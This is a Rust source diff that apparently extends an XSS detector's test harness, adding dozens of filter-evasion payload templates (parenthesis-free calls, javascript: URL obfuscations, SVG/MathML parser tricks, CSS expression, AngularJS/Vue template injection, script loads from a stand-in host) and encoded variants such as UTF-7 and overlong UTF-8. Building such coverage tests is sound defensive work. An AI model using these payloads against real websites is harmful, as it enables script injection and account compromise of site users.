@@ -436,6 +436,28 @@ const SINK_FORMS: &[&str] = &[
     "$.globalEval({q}{c}{q})",
     "document.head.append(Object.assign(document.createElement({q}script{q}),{src:{q}//x.example{q}}))",
     "with(document)body.appendChild(createElement({q}script{q})).src={q}//x.example{q}",
+    // Sixth round (waf-xss), from the JS and DOM references: calls without parentheses,
+    // handlers assigned then raised, reflection, other objects that reach the globals.
+    "{onerror={f}}throw {a}",
+    "window.onerror={f};throw {a}",
+    "[].map.call([{a}],{f})",
+    "[{f}][0]({a})",
+    "{f}.bind(null,{a})()",
+    "Reflect.construct(Function,[{q}{c}{q}])()",
+    "this.{f}({a})",
+    "this[{q}{f}{q}]({a})",
+    "document.defaultView.{f}({a})",
+    "(1,eval)({q}{c}{q})",
+    "setTimeout`{f}\\x28{a}\\x29`",
+    "eval({q}\\x61lert\\x28{a}\\x29{q})",
+    "eval(String.fromCharCode(97,108,101,114,116,40,49,41))",
+    "eval(unescape({q}%61%6c%65%72%74%28%31%29{q}))",
+    "eval(decodeURIComponent({q}%61lert%28{a}%29{q}))",
+    "location.assign({q}javascript:{c}{q})",
+    "top.location={q}javascript:{c}{q}",
+    "open({q}javascript:{c}{q})",
+    "import({q}//x.example/x.js{q})",
+    "document.writeln({q}<svg onload={c}>{q})",
 ];
 
 /// Places a script runs from, from the HTML standard, SVG, MathML, CSS and JS contexts (a
@@ -504,6 +526,73 @@ const VEHICLES: &[&str] = &[
     "\"><img src=x onerror=\"{c}\">",
     "'><svg onload=\"{c}\">",
     "\" autofocus onfocus=\"{c}\" x=\"",
+    // Sixth round (waf-xss), from the HTML standard's tokenizer: `/`, form feed and no
+    // space between attributes, backtick and unquoted values, a tag left open, foreign
+    // content (`<style>` in SVG and MathML is no raw text), comments, CDATA and processing
+    // instructions a filter reads differently from a browser.
+    "<img/src=x/onerror=\"{c}\">",
+    "<img\x0csrc=x\x0conerror=\"{c}\">",
+    "<img src=x onerror=\"{c}\"//",
+    "<img src=`x` onerror=`{c}`>",
+    "<img src=x onerror={c}>",
+    "<svg/onload={c}",
+    "<svg><style><img src=x onerror=\"{c}\"></style></svg>",
+    "<math><style><img src=x onerror=\"{c}\"></style></math>",
+    "<!--><img src=x onerror=\"{c}\">-->",
+    "<![CDATA[><img src=x onerror=\"{c}\">]]>",
+    "<? x=\"><img src=x onerror=\"{c}\">\">",
+    "</x/><svg onload=\"{c}\">",
+    "<title><img title=\"</title><img src=x onerror={c}>\">",
+    // Elements and attributes that load or navigate.
+    "<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,{b}\">",
+    "<iframe srcdoc=\"&lt;img src=x onerror=&quot;{c}&quot;&gt;\"></iframe>",
+    "<button form=f formaction=\"javascript:{c}\">x</button>",
+    "<input type=image formaction=\"javascript:{c}\" src=x>",
+    "<object data=\"data:text/html,&lt;script&gt;{c}&lt;/script&gt;\"></object>",
+    "<embed src=\"data:image/svg+xml;base64,{b}\">",
+    "<link rel=import href=\"data:text/html;base64,{b}\">",
+    "<svg><use href=\"data:image/svg+xml;base64,{b}#x\"/></svg>",
+    "<svg><animate attributeName=href values=\"javascript:{c}\"/><a><text>x</text></a></svg>",
+    "<svg><animate xlink:href=#a attributeName=xlink:href from=\"javascript:{c}\" to=1 />",
+    // Script URLs as browsers still read them: references with and without `;`, tabs and
+    // newlines inside the scheme, leading controls, other schemes.
+    "<a href=\"java&#x09;script:{c}\">x</a>",
+    "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;{c}\">x</a>",
+    "<a href=\"&#0000106avascript:{c}\">x</a>",
+    "<a href=\"javascript&#58;{c}\">x</a>",
+    "<a href=\"java&Tab;script&colon;{c}\">x</a>",
+    "<a href=\"jav&NewLine;ascript:{c}\">x</a>",
+    "<a href=\"\x01\x02javascript:{c}\">x</a>",
+    "<a href=\"JaVaScRiPt:{c}\">x</a>",
+    "<a href=\"javascript://%0a{c}\">x</a>",
+    "<a href=\"data:text/html;charset=utf-8,&lt;script&gt;{c}&lt;/script&gt;\">x</a>",
+    "<a href=\"vbscript:{c}\">x</a>",
+    // Script strings and blocks left in other ways.
+    "'}};{c};//",
+    "\"});{c};//",
+    "`;{c};`",
+    "*/{c}/*",
+    "');{c};('",
+    "'||{c}||'",
+    "`+{c}+`",
+    "</script><svg onload={c}>",
+    // CSS.
+    "<style>@import 'javascript:{c}';</style>",
+    "<style>*{x:expression({c})}</style>",
+    "<div style=\"x:\\65 xpression({c})\">",
+    "<div style=\"list-style:url(javascript:{c})\">",
+    "<div style=\"behavior:url(data:text/x-component;base64,{b})\">",
+    "<div style=\"-moz-binding:url(data:text/xml;base64,{b})\">",
+    // Client-side templates (AngularJS, Vue, Alpine) that evaluate expressions.
+    "{{$on.constructor(`{c}`)()}}",
+    "{{$eval.constructor(`{c}`)()}}",
+    "{{_c.constructor(`{c}`)()}}",
+    "{{[].pop.constructor(`{c}`)()}}",
+    "<input autofocus ng-focus=\"{c}\">",
+    "<div ng-app><p ng-click=\"{c}\">x</p></div>",
+    "<div v-on:click=\"{c}\">x</div>",
+    "<button @click=\"{c}\">x</button>",
+    "<div x-data x-init=\"{c}\"></div>",
 ];
 
 fn base64(b: &[u8]) -> String {
@@ -538,6 +627,12 @@ fn vehicle_report(verbose: bool) {
                 .replace("{a}", "1")
                 .replace("{c}", "alert(1)")
                 .replace("{q}", "'");
+            // A value the vehicle's syntax cannot carry (a backtick inside a backtick-quoted
+            // value, a space in an unquoted one) would end it early: not a payload.
+            let unquoted = v.contains("={c}") && c.bytes().any(|b| is_space(b) || b == b'>');
+            if unquoted || v.contains("=`{c}`") && c.contains('`') {
+                continue;
+            }
             let b = base64(format!("<script>{c}</script>").as_bytes());
             let payload = v.replace("{c}", &c).replace("{b}", &b);
             let hit = detect::xss(payload.as_bytes());
@@ -717,6 +812,49 @@ fn variants(p: &[u8]) -> Vec<(&'static str, Vec<u8>)> {
         "percent-encoded twice",
         Some(percent_encode(&percent_encode(p, false), false)),
     ));
+
+    // Markup characters in encodings that some layer between the request and the page
+    // undoes: UTF-7 (a page served without a charset, read as UTF-7 by old IE), overlong
+    // UTF-8 (a lenient decoder), fullwidth forms (a back end that applies NFKC), JS hex
+    // escapes (a value written into a script string and from there into the DOM), the top
+    // bit set (a page served as US-ASCII, whose top bit old IE dropped).
+    for (kind, form) in [
+        ("UTF-7", 0),
+        ("overlong UTF-8", 1),
+        ("fullwidth markup", 2),
+        ("JS hex escapes", 3),
+        ("US-ASCII high bit", 4),
+    ] {
+        let mut enc = Vec::with_capacity(p.len() * 2);
+        for &b in p {
+            if form == 0 && b == b'+' {
+                // A literal `+` opens a shifted run in UTF-7; `+-` stands for it.
+                enc.extend_from_slice(b"+-");
+                continue;
+            }
+            if !matches!(b, b'<' | b'>' | b'"' | b'\'' | b'(' | b')' | b'=') {
+                enc.push(b);
+                continue;
+            }
+            match form {
+                0 => {
+                    let [hi, lo] = u16::from(b).to_be_bytes();
+                    let b64 = base64(&[hi, lo]);
+                    enc.push(b'+');
+                    enc.extend_from_slice(b64.trim_end_matches('=').as_bytes());
+                    enc.push(b'-');
+                }
+                1 => enc.extend_from_slice(format!("%C0%{:02X}", 0x80 | (b & 0x3f)).as_bytes()),
+                2 => {
+                    let c = char::from_u32(0xFEE0 + u32::from(b)).unwrap_or('?');
+                    enc.extend_from_slice(c.to_string().as_bytes());
+                }
+                3 => enc.extend_from_slice(format!("\\x{b:02x}").as_bytes()),
+                _ => enc.extend_from_slice(format!("%{:02X}", b | 0x80).as_bytes()),
+            }
+        }
+        out.push((kind, (enc != p).then_some(enc)));
+    }
 
     // HTML character references inside handler and URL values (the attribute value is
     // decoded before it is run or followed): decimal, hex without `;`, zero-padded, named.
